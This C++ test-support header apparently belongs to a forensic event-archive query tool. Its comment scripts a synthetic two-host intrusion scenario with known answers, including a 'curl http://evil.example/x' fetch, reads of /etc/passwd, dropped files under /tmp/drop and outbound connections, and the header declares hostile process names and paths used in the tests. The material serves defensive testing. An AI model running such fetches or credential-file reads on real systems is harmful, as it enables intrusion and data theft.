// SPDX-License-Identifier: GPL-3.0-or-later
// The case the query tests run on: two hosts whose archives tell a small incident with known answers. Times are ms
// after kBaseTs (at()); every process key's start agrees with its first event, so "running at T" has one answer.
//
// alpha (archives seq 1, 2 and 4 — seq 3 is never imported: a chain gap):
//   seq 1  @0 rec.start; @10 exec 200 bash (parent 100, not yet known); @20 exec 300 curl http://evil.example/x;
//          @30 exec 301 with a hostile name and argv; @40 300 opens /etc/passwd; @50 300 writes /tmp/drop/a.sh;
//          @60 301 creates /tmp/drop/b.bin; @70 301 creates the hostile path; @80 300 connects 10.0.0.2:40300 ->
//          203.0.113.5:443; @90 state.change (medium, modules); @100 exit 300; @110 rec.loss proc.ebpf 17 (to @115);
//          @120 rec.stop
//   seq 2  @1000 rec.start; @1000 snapshot of 100 (sshd, started @-5000, parent 1 unknown): 200's parent arrives;
//          @1010 exec 400 python3 (parent 200); @1020 400 connects 10.0.0.2:40400 -> 198.51.100.7:22;
//          @1030 400 opens /etc/passwd; @1040 exec 401 sh (parent 400)
//   seq 4  @5000 rec.start (no rec.stop before it: a crash); @5010 exit 200; @5020 401 opens /var/log/x
// beta (seq 1): @10 exec 500 wget (parent 1); @85 500 connects 10.0.0.9:40500 -> 203.0.113.5:443
// Test code only.
#pragma once

#include "casefixture.h"

#include <QTemporaryDir>
#include <map>

namespace Deck::TestSupport {

struct QueryScenario
{
    explicit QueryScenario(const QString &dir, const QString &suffix);

    // UTC ns of `ms` after the base time.
    static qint64 at(qint64 ms);
    static QString hostileComm();
    static QList<QByteArray> hostileArgv();
    static QByteArray hostilePath();

    ArchiveSeries alpha;
    ArchiveSeries beta;
    QStringList archives; // in import order (alpha's seq 3 left out)
};

// The case at `location` (a file or a postgresql:// URL) with the scenario imported through the real importer (its
// archives written into `folder`, each host's key trusted); the error names what failed.
Flight::Expected<std::unique_ptr<Core::Database>> openScenarioCase(const QString &location, const QString &folder,
                                                                   const QString &suffix = {});

class PgCluster;

// The scenario's case on each engine, for a data-driven test whose functions only read it: a PostgreSQL cluster is
// started when constructed (a warning says why when it cannot be), and each case is built on first use by the real
// importer, as a SQLite file or a database of the cluster, in a temporary directory.
class ScenarioCases
{
public:
    ScenarioCases();
    ~ScenarioCases();

    // The global data rows "sqlite" and "postgresql" of the column "engine" (for initTestCase_data()).
    static void addEngineRows();
    bool hasPostgres() const { return m_pg != nullptr; }
    // The case of `engine`; null, with the reason in *error, when it cannot be built.
    Core::Database *get(const QString &engine, QString *error);

private:
    QTemporaryDir m_dir;
    std::unique_ptr<PgCluster> m_pg;
    std::map<QString, std::unique_ptr<Core::Database>> m_cases;
};

// A new, empty case for each test function, on the engine of its "engine" data row (addEngineRows()): SQLite files
// in a temporary directory, PostgreSQL databases in a cluster of the test's own (started here; a warning when it
// cannot start).
class FreshCases
{
public:
    FreshCases();
    ~FreshCases();

    bool hasPostgres() const { return m_pg != nullptr; }
    QString dir() const { return m_dir.path(); }
    // The case PREFIX<n>, n counting the cases made; and that name in *name.
    Flight::Expected<std::unique_ptr<Core::Database>> open(const QString &engine, const QString &prefix, QString *name);
    // Where that case goes, for a test that opens it itself: a SQLite file not made yet, or an empty database.
    Flight::Expected<QString> create(const QString &engine, const QString &prefix, QString *name);

private:
    QTemporaryDir m_dir;
    std::unique_ptr<PgCluster> m_pg;
    int m_made = 0;
};

} // namespace Deck::TestSupport
